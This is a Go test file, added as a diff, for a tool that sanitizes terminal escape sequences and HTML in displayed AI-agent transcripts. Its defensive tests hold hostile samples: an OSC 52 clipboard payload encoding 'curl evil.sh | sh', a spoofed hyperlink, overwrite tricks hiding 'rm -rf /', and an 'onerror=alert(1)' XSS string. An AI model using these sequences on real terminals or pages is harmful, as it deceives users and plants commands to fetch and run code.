@@ -0,0 +1,221 @@
+package main
+
+import (
+	"strings"
+	"testing"
+	"time"
+)
+
+// 攻撃に使われる制御シーケンス
+const (
+	osc52Clipboard = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"                // クリップボードへの書き込み
+	oscTitle       = "\x1b]0;pwned\x1b\\"                                    // ウィンドウタイトルの変更
+	oscHyperlink   = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\" // 偽装したリンク
+	csiClear       = "\x1b[2J\x1b[H"                                         // 画面の消去とカーソル移動
+	csiRecolor     = "\x1b[31;1m"                                            // 色の変更
+	c1CSI          = "\u009b2J"                                              // 8bit の CSI
+	dcsSequence    = "\x1bP$q\"p\x1b\\"                                      // DECRQSS
+)
+
+func TestSanitizeText_Escape(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  string
+	}{
+		{name: "plain text", input: "hello\n\tworld", want: "hello\n\tworld"},
+		{name: "japanese", input: "日本語のテキスト", want: "日本語のテキスト"},
+		{name: "osc 52 clipboard", input: "a" + osc52Clipboard + "b", want: `a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b`},
+		{name: "window title", input: oscTitle, want: `\x1b]0;pwned\x1b\`},
+		{name: "clear screen", input: csiClear + "x", want: `\x1b[2J\x1b[Hx`},
+		{name: "recolor", input: csiRecolor + "red", want: `\x1b[31;1mred`},
+		{name: "c1 csi", input: c1CSI, want: `\u009b2J`},
+		{name: "invalid c1 byte", input: "a\x9bb", want: `a\x9bb`},
+		{name: "carriage return overwrite", input: "rm -rf /\rls", want: `rm -rf /\x0dls`},
+		{name: "crlf", input: "a\r\nb", want: "a\nb"},
+		{name: "backspace", input: "safe\b\b\b\bevil", want: `safe\x08\x08\x08\x08evil`},
+		{name: "bell and nul", input: "\a\x00", want: `\x07\x00`},
+		{name: "del", input: "a\x7fb", want: `a\x7fb`},
+		{name: "bidi override", input: "access\u202e\u2066level", want: `access\u202e\u2066level`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := sanitizeText(tt.input, &FilterConfig{Sanitize: "escape"})
+			if got != tt.want {
+				t.Errorf("sanitizeText() = %q, want %q", got, tt.want)
+			}
+			if strings.ContainsAny(got, "\x1b\a\b\r\u009b") {
+				t.Errorf("control characters remain: %q", got)
+			}
+		})
+	}
+}
+
+func TestSanitizeText_Strip(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  string
+	}{
+		{name: "plain text", input: "hello\n\tworld", want: "hello\n\tworld"},
+		{name: "osc 52 clipboard", input: "a" + osc52Clipboard + "b", want: "ab"},
+		{name: "window title", input: oscTitle + "x", want: "x"},
+		{name: "hyperlink", input: oscHyperlink, want: "click"},
+		{name: "clear screen", input: csiClear + "x", want: "x"},
+		{name: "recolor", input: csiRecolor + "red" + ColorReset, want: "red"},
+		{name: "c1 csi", input: "a" + c1CSI + "b", want: "ab"},
+		{name: "dcs", input: dcsSequence + "x", want: "x"},
+		{name: "reset terminal", input: "\x1bcx", want: "x"},
+		{name: "charset switch", input: "\x1b(0x", want: "x"},
+		{name: "unterminated osc swallows the rest", input: "a\x1b]52;c;abc", want: "a"},
+		{name: "unterminated csi", input: "a\x1b[31", want: "a"},
+		{name: "lone esc", input: "a\x1b", want: "a"},
+		{name: "carriage return", input: "rm -rf /\rls", want: "rm -rf /ls"},
+		{name: "crlf", input: "a\r\nb", want: "a\nb"},
+		{name: "bidi override", input: "access\u202elevel", want: "accesslevel"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := sanitizeText(tt.input, &FilterConfig{Sanitize: "strip"})
+			if got != tt.want {
+				t.Errorf("sanitizeText() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestSanitizeText_Off(t *testing.T) {
+	input := csiRecolor + "red" + osc52Clipboard
+	if got := sanitizeText(input, &FilterConfig{Sanitize: "off"}); got != input {
+		t.Errorf("sanitizeText() = %q, want input unchanged", got)
+	}
+	// 設定のない FilterConfig では escape
+	if got := sanitizeText(input, &FilterConfig{}); strings.Contains(got, "\x1b") {
+		t.Errorf("zero config should escape, got %q", got)
+	}
+}
+
+func TestFormatToolResult_Sanitize(t *testing.T) {
+	result := ToolResult{Content: "ok" + osc52Clipboard + csiClear + "\x1b]0;pwned\x07done"}
+
+	got := formatToolResult(result, &FilterConfig{InfoLevel: "standard", UseColor: true})
+	// ccfilter 自身の色は残り、ツールの出力のエスケープシーケンスだけが無害化される
+	if !strings.HasPrefix(got, colorize("←", roleArrow, defaultColors)) {
+		t.Errorf("own colors should remain: %q", got)
+	}
+	injected := strings.TrimPrefix(got, colorize("←", roleArrow, defaultColors))
+	if strings.Contains(injected, "\x1b") || strings.Contains(injected, "\a") {
+		t.Errorf("escape sequences from tool output reached the terminal: %q", got)
+	}
+
+	minimal := formatToolResult(ToolResult{Content: csiClear + "first\nsecond"}, &FilterConfig{InfoLevel: "minimal", Sanitize: "strip"})
+	if minimal != "← first\n" {
+		t.Errorf("minimal = %q", minimal)
+	}
+
+	raw := formatToolResult(result, &FilterConfig{InfoLevel: "standard", Sanitize: "off"})
+	if !strings.Contains(raw, osc52Clipboard) {
+		t.Errorf("--sanitize=off should keep the output as is: %q", raw)
+	}
+}
+
+func TestFormatToolUse_Sanitize(t *testing.T) {
+	content := Content{
+		Type:  "tool_use",
+		Name:  "Edit",
+		Input: []byte(`{"file_path":"/tmp/a\u001b]0;x\u0007.go","old_string":"a\u001b[2Jb","new_string":"c\u009b2Jd"}`),
+	}
+
+	got := formatToolUse(content, &FilterConfig{InfoLevel: "verbose", UseColor: false})
+	if strings.ContainsAny(got, "\x1b\a\u009b") {
+		t.Errorf("control characters in tool input reached the terminal: %q", got)
+	}
+	for _, want := range []string{`- a\x1b[2Jb`, `+ c\u009b2Jd`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("missing %q in %q", want, got)
+		}
+	}
+}
+
+func TestFormatMessage_SanitizeAssistantAndMarkdown(t *testing.T) {
+	assistant := `{"type":"assistant","message":{"content":[{"type":"text","text":"see \u001b]52;c;eA==\u0007 here"}]}}`
+	got, err := formatMessage("assistant", []byte(assistant), &FilterConfig{ShowAssistant: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(got, "\x1b") {
+		t.Errorf("assistant text not sanitized: %q", got)
+	}
+
+	user := `{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"t1","content":"x\u001b[2Jy"}]}}`
+	got, err = formatMessage("user", []byte(user), &FilterConfig{Format: "markdown", InfoLevel: "standard"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(got, "\x1b") || !strings.Contains(got, `x\x1b[2Jy`) {
+		t.Errorf("markdown tool result not sanitized: %q", got)
+	}
+}
+
+func TestFormatStats_Sanitize(t *testing.T) {
+	tracker := trackLines(t, []int{0, 0, 0}, []string{
+		`{"type":"assistant","message":{"id":"m1","model":"opus\u001b[2J","content":[{"type":"tool_use","id":"t1","name":"Read","input":{"file_path":"/tmp/a\u001b]0;x\u0007.go"}}]}}`,
+		`{"type":"assistant","message":{"id":"m1","model":"opus","content":[{"type":"tool_use","id":"t2","name":"Bash","input":{"command":"echo \u001b]52;c;eA==\u0007\u009b2J"}}]}}`,
+		`{"type":"assistant","message":{"id":"m1","model":"opus","content":[{"type":"tool_use","id":"t3","name":"Evil\u001b[31m","input":{}}]}}`,
+	})
+
+	got := formatStats(computeStats(tracker), &FilterConfig{UseColor: false})
+	if strings.ContainsAny(got, "\x1b\a\u009b") {
+		t.Errorf("control characters in tool input reached the terminal: %q", got)
+	}
+	for _, want := range []string{`/tmp/a\x1b]0;x\x07.go`, `echo \x1b]52;c;eA==\x07\u009b2J`, `Evil\x1b[31m ×1`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("missing %q in %q", want, got)
+		}
+	}
+}
+
+func TestFormatTimeline_Sanitize(t *testing.T) {
+	tracker := trackLines(t, []int{0, 1, 2}, []string{
+		`{"type":"assistant","message":{"id":"m1","model":"opus\u001b]0;x\u0007","content":[{"type":"tool_use","id":"t1","name":"Evil\u001b[2J","input":{}}]}}`,
+		`{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"t1","content":"ok"}]}}`,
+		`{"type":"assistant","message":{"id":"m2","model":"opus","content":[{"type":"text","text":"done"}]}}`,
+	})
+
+	got := formatTimeline(tracker, &FilterConfig{InfoLevel: "standard", UseColor: false})
+	if strings.ContainsAny(got, "\x1b\a") {
+		t.Errorf("control characters in tool and model names reached the terminal: %q", got)
+	}
+	for _, want := range []string{`turn opus\x1b]0;x\x07`, `Evil\x1b[2J`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("missing %q in %q", want, got)
+		}
+	}
+}
+
+func TestFormatMarkdown_SanitizeToolName(t *testing.T) {
+	config := &FilterConfig{Format: "markdown", InfoLevel: "minimal", Tracker: newTracker()}
+	name := `Evil</summary><img src=x onerror=alert(1)>\u001b[2J`
+	assistant := `{"type":"assistant","message":{"id":"m1","content":[{"type":"tool_use","id":"t1","name":"` + name + `","input":{}}]}}`
+	user := `{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"t1","content":"ok"}]}}`
+	config.Tracker.observe("assistant", []byte(assistant), time.Time{})
+
+	var got strings.Builder
+	got.WriteString(formatMarkdownToolUse(Content{Type: "tool_use", ID: "t1", Name: "Evil</summary><img src=x onerror=alert(1)>\x1b[2J"}, config))
+	out, err := formatMarkdownUser([]byte(user), config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got.WriteString(out)
+
+	if strings.Contains(got.String(), "<img") || strings.Count(got.String(), "</summary>") != 1 || strings.Contains(got.String(), "\x1b") {
+		t.Errorf("tool name injected markup or control characters: %q", got.String())
+	}
+	for _, want := range []string{`**→ Evil&lt;/summary&gt;&lt;img`, `<summary>← Evil&lt;/summary&gt;&lt;img`} {
+		if !strings.Contains(got.String(), want) {
+			t.Errorf("missing %q in %q", want, got.String())
+		}
+	}
+}